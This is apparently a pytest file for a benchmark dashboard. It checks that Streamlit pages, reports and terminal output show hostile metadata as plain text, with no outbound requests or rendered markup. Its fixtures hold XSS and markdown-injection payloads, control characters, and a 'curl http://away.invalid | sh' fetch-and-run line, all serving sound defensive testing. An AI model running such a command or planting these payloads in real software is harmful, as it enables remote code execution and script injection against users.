"""Text from files is text on every page: in a browser that counts requests, and by what the code of the pages says."""

import contextlib
import json
import os
import random
import socket
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pypdf
import pytest
import yaml

from robustbench_sgdm import report
from robustbench_sgdm.core import escaping, resources
from robustbench_sgdm.core.escaping import markdown
from robustbench_sgdm.core.untrusted_input import escape_control_chars
from robustbench_sgdm.figures import RunAnalysis
from robustbench_sgdm.store import Run
from tests.support import synthetic_runs
from tests.support.synthetic_runs import rewrite

APP = resources.root() / "app"

AWAY = "http://away.invalid"  # a request to it is one too many
MODELS = [
    "![m](x) :red[m] $m$ ~~m~~ <img src=x onerror=alert(1)>",
    ":material_home: **m** `m` :smile: -> www.away.invalid a@away.invalid",
]
CORRUPTIONS = {
    "<script>alert(1)<!-- :streamlit: [c](javascript:alert(1))": [1, 3],
    "$$c$$ {{c}} =c() #c": [1, 3],
}
FAMILIES = [f"![f]({AWAY}/f.png)", f"\u202e[f]({AWAY}) :blue-background[f] \x1b]8;;{AWAY}\x07\u2066"]
CLASSES = [f"<img src={AWAY}/c.png>", f"![c]({AWAY}/c.png)", "\u202ecat\u200b", "=HYPERLINK(1)"]
HOSTILE = f"![t]({AWAY}/t.png) <img src={AWAY}/t.png> :material/home: $t$ \x1b[2J\u202e"
SHOWN = f"![t]({AWAY}/t.png) <img src={AWAY}/t.png> :material/home: $t$ \\x1b[2J\\u202e"
PAGES = (
    *("", "overview", "curves", "classes", "images", "images?show=Gallery", "live", "training"),
    *("paper?table=6", "run"),
)
FORGED = (
    *(
        "a[href*=away]:not([href^='#'])",
        "img[src*=away]",
        "a[href^=javascript]",
        "a[href^=mailto]",
        ".katex",
        "del",
    ),
    *(
        "img[alt='Streamlit logo']",
        "[aria-label='home icon']",
        "script",
        "strong:text-is('m')",
        "[data-testid=stException]",
    ),
)
SETTLED = "[data-testid=stApp][data-test-script-state=notRunning]"
SHOW_IMAGES = """
() => [...document.querySelectorAll("button")].filter(one => one.innerText == "Show the images").map(one => one.click())
    .length"""  # at once: a page that runs again replaces its buttons


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A run all of whose texts are made to be something else; a training of the same kind lies beside it."""
    folder = tmp_path_factory.mktemp("hostile")
    name = f"![r]({AWAY.replace('/', ':')}) :smile: $r$ \u202e"
    run = synthetic_runs.make_run(folder, name, MODELS, CORRUPTIONS, images=6, resamples=True, leave=1)
    parts = {
        "command": f"curl {AWAY} | sh  # {HOSTILE}",
        "data": {"name": HOSTILE, "source": HOSTILE, "ground_truth": HOSTILE, "notes": [HOSTILE]},
        "models": {
            name: {
                "weights": HOSTILE,
                "notes": [HOSTILE],
                "unfound": [HOSTILE],
                "module": HOSTILE,
                HOSTILE: HOSTILE,
            }
            for name in run.manifest.models
        },
        "corruptions": {
            name: {
                "family": family,
                "summary": f"{HOSTILE}\ud800",
                "source": HOSTILE,
                "strengths": {"1": HOSTILE, HOSTILE: "=1"},
            }
            for name, family in zip(run.manifest.corruptions, FAMILIES, strict=True)
        },
        "settings": {"device": HOSTILE},
        **{part: {HOSTILE: HOSTILE} for part in ("versions", "hardware")},
    }
    made = rewrite(run, **parts)
    truth = made.ground_truth()
    truth.categories["name"] = CLASSES
    truth.images["file"] = [f"{folder}/![i]({AWAY}:{number}) <b>i.png" for number in range(len(truth.images))]
    fingerprint = f"{made.manifest.data.fingerprint}x"
    truth.write(made.path / "ground_truth", fingerprint)
    rewrite(made, data={"fingerprint": fingerprint})
    rows = [(model, 10.0, 1.0, 1.0, 1.0, HOSTILE) for model in MODELS]
    made.write_latency(
        pd.DataFrame(rows, columns=["model", "milliseconds", "ratio", "low", "high", "device"])
    )
    training = (
        folder / "training" / f"![t]({AWAY.replace('/', ':')}) :smile:" / "<img src=x onerror=alert(1)>"
    )
    training.mkdir(parents=True)
    synthetic_runs.make_run(
        folder, "plain", ["a"], {"fog": [1]}, images=4
    )  # with one run there is no list of runs
    losses = {
        f"{split}/{loss}_loss": [2.0, 1.0] for split in ("train", "val") for loss in ("box", "cls", "dfl")
    }
    pd.DataFrame({"epoch": [1, 2], **losses}).to_csv(training / "results.csv", index=False)
    (training / "recipe.yaml").write_text(yaml.safe_dump({"model": HOSTILE, "arguments": {"seed": 0}}))
    return Run.open(run.path)


class Watched:
    """A page of the browser that notes every request elsewhere, every dialog and every error."""

    def __init__(self, page: Any, address: str) -> None:
        self.page, self.address = page, address
        self.away: list[str] = []
        page.set_default_timeout(60_000)
        page.on("request", self._request)
        page.on("dialog", self._dialog)

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.address, self.address.replace("http", "ws"), "data:", "blob:")):
            self.away.append(request.url)

    def _dialog(self, dialog: Any) -> None:
        self.away.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def open(self, path: str) -> str:
        """The text of a page that has come to rest."""
        self.page.goto(f"{self.address}/{path}")
        self.page.locator("[data-testid=stMain] :is(p, label, h3):visible").first.wait_for()
        texts = [""]
        while len(texts) < 4 or len({*texts[-3:]}) > 1:  # parts of a page come one after the other
            self.page.wait_for_selector(SETTLED)
            texts.append(str(self.page.inner_text("[data-testid=stMain]")))
            self.page.wait_for_timeout(250)
            if self.page.evaluate(SHOW_IMAGES):  # pictures, or why there are none
                texts = [""]
        return texts[-1]


@pytest.fixture
def watched(browser: Any, app: Callable[..., str], hostile: Run) -> Iterator[Watched]:
    folder = hostile.path.parent
    words = ("--training", str(folder / "training"), "--", str(hostile.path), str(folder / "plain"))
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    yield Watched(context.new_page(), app(*words))
    context.close()


def test_every_page_shows_text_as_text(watched: Watched) -> None:
    """Nothing is fetched, linked, run or drawn from it; what it says can be read."""
    told = {path: check(watched, path) for path in PAGES}
    assert watched.away == []
    for path, texts in {
        "overview": [SHOWN, *MODELS, "does not say which command"],
        "curves": [next(iter(CORRUPTIONS)), MODELS[0]],
        "images": ["<b>i.png", SHOWN],
        "training": ["<img src=x onerror=alert(1)>", "![t]"],
    }.items():
        lines = " ".join(told[path].split())
        for text in texts:
            assert text in lines, f"{path}: {text}"
    assert "curl" not in told["overview"] + told[""]


def check(watched: Watched, path: str) -> str:
    """Open a page; nothing in it is made of markup in the texts of its data."""
    text = watched.open(path)
    inside = watched.page.locator("[data-testid=stMain]")
    for what in FORGED:
        assert inside.locator(what).count() == 0, f"{path}: {what}"
    assert not [c for c in text if c in "\u202e\u2066\u200b\x1b\x07"], path
    return text


def test_a_family_can_be_chosen_whatever_it_is_called(watched: Watched) -> None:
    for family, shown in zip(FAMILIES, (FAMILIES[0], "\\u202e[f]"), strict=True):
        watched.open("overview")
        watched.page.locator(".st-key-family input").click()
        watched.page.get_by_role("option").filter(has_text=shown).click()
        watched.page.wait_for_url(lambda url: "family=" in url)
        watched.open(watched.page.url.removeprefix(f"{watched.address}/"))
        assert shown in watched.page.locator(".st-key-family input").input_value(), family
    assert watched.away == []


def test_the_report_of_such_a_run(browser: Any, hostile: Run) -> None:
    report.write_report(RunAnalysis(hostile))
    page = browser.new_page()
    watched = Watched(page, (hostile.path / "report.html").as_uri())
    page.goto(watched.address)
    told = " ".join(page.inner_text("main").split())
    assert watched.away == [] and page.locator("a:not([href^='#'], [href^='data:text/csv'])").count() == 0
    assert not set(told) & set("\u202e\u2066\u200b\x1b\x07") and all(one in told for one in (SHOWN, *MODELS))
    recorded = page.locator("dd", has_text="from the manifest, not verified").inner_text()
    assert "curl" in recorded and told.count("curl") == 1
    page.close()
    document = pypdf.PdfReader(hostile.path / "report.pdf")
    links = [link.get_object() for one in document.pages for link in one.get("/Annots", [])]
    assert links and not any("/URI" in link.get("/A", {}) for link in links)
    text = "".join(one.extract_text() for one in document.pages)
    assert not set(text) & set("\u202e\u2066\u200b\x1b\x07")


def test_the_terminal_shows_such_a_run(hostile: Run, command: Callable[..., str]) -> None:
    project = str(hostile.path.parent)
    for words in (
        ("list", "runs", "--project", project),
        ("compare", str(hostile.path), "--resamples", "20"),
        ("compare", str(hostile.path), "--resamples", "20", "--format", "markdown"),
        ("report", str(hostile.path), "--resamples", "20"),
        ("curves", *map(str, (hostile.path.parent / "training").iterdir()), "--out", "x.svg"),
    ):
        told = command(*words)
        assert not [
            c for c in told if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")
        ], words
        assert not any(line.lstrip().startswith("::") for line in told.splitlines())
    hostile.write_results()
    frame = escaping.from_csv_frame(pd.read_csv(hostile.path / "results.csv", dtype={"strength": str}))
    assert set(frame["model"]) == set(MODELS) and set(frame["data"]) == {HOSTILE}


PIECES = (
    *(
        "a",
        "b c",
        " ",
        "\n",
        "\t",
        "1.",
        "1)",
        "- ",
        "+ ",
        "# ",
        "> ",
        "=",
        "---",
        "***",
        "```",
        "~~~",
        "`",
        "``",
        "|",
    ),
    *(
        "![x](",
        "[x](",
        ")",
        "](",
        "[x]: ",
        "[^1]",
        "<",
        ">",
        "<b>",
        "</b>",
        "<!--",
        "-->",
        "&amp;",
        "&#58;",
        "\\",
    ),
    *(
        ":red[",
        "]",
        ":material/home:",
        ":material_home:",
        ":material/",
        ":streamlit:",
        ":smile:",
        ":+1:",
        ":small[",
        ":a{b}",
    ),
    *(
        "$",
        "$$",
        "\\(",
        "*",
        "**",
        "_",
        "__",
        "~",
        "~~",
        "^",
        "{",
        "}",
        "!",
        "://",
        "http://a.b",
        "https",
        "www.",
        "www.a.b",
    ),
    *(
        "a@b.c",
        "@a",
        "@1.5",
        "#1",
        "->",
        "<-",
        "--",
        ">=",
        " -> ",
        "é",
        "ק",
        "猫",
        "👨\u200d👩",
        "\u202e",
        "\x1b[2J",
        "\u200b",
        "\ud800",
    ),
)
SCRIPT = """
import json, streamlit as st
from robustbench_sgdm.core.escaping import markdown
for number, text in enumerate(json.load(open({path!r}))):
    with st.container(key=f"text-{{number}}"):
        [st.markdown, lambda t: st.checkbox(t, key=number), st.info, lambda t: st.markdown("### " + t)][number % 4](
            "from " + markdown(text) if number % 3 else markdown("x" + text)
        )
"""


def test_markdown_shows_every_text_as_it_is(browser: Any, tmp_path: Path) -> None:
    """Streamlit in a browser is the oracle: what is shown is the text, whatever it is put together from."""
    dice = random.Random(17)
    texts = ["".join(dice.choices(PIECES, k=dice.randint(1, 8))) for _ in range(400)]
    (tmp_path / "texts.json").write_text(json.dumps(texts))
    (tmp_path / "page.py").write_text(SCRIPT.format(path=str(tmp_path / "texts.json")))
    with socket.socket() as probe:
        probe.bind(("localhost", 0))
        port = probe.getsockname()[1]
    words = ["--server.headless=true", f"--server.port={port}", "--server.fileWatcherType=none"]
    command = [sys.executable, "-m", "streamlit", "run", str(tmp_path / "page.py"), *words]
    environment = {**os.environ, "STREAMLIT_BROWSER_GATHER_USAGE_STATS": "false"}
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=environment
    ) as server:
        try:
            watched = Watched(page, f"http://localhost:{port}")
            for _ in range(100):
                with contextlib.suppress(OSError), socket.create_connection(("localhost", port), 1):
                    break
                time.sleep(0.2)
            page.goto(watched.address)
            page.locator(f".st-key-text-{len(texts) - 1}").wait_for()
            page.wait_for_function(
                "n => [...document.querySelectorAll('[class*=st-key-text-]')].filter(e => e.textContent).length == n",
                arg=len(texts),
            )
            shown = page.evaluate(
                "count => [...Array(count).keys()].map(n => document.querySelector(`.st-key-text-${n}`).textContent)",
                len(texts),
            )
            forged = (
                "img, a:not([href^='#']), .katex, del, strong, em, blockquote, li, table, hr, pre, [role=img]"
            )
            made = page.evaluate(
                "all => [...document.querySelectorAll(all)].map(e => e.outerHTML)",
                f"[class*=st-key-text-] :is({forged})",
            )
        finally:
            server.terminate()
        assert watched.away == [] and made == []
    for number, (text, seen) in enumerate(zip(texts, shown, strict=True)):
        meant = " ".join(escape_control_chars(f"{'from ' if number % 3 else 'x'}{text}", "\n\t").split())
        assert " ".join(seen.split()) == meant, (text, markdown(text))
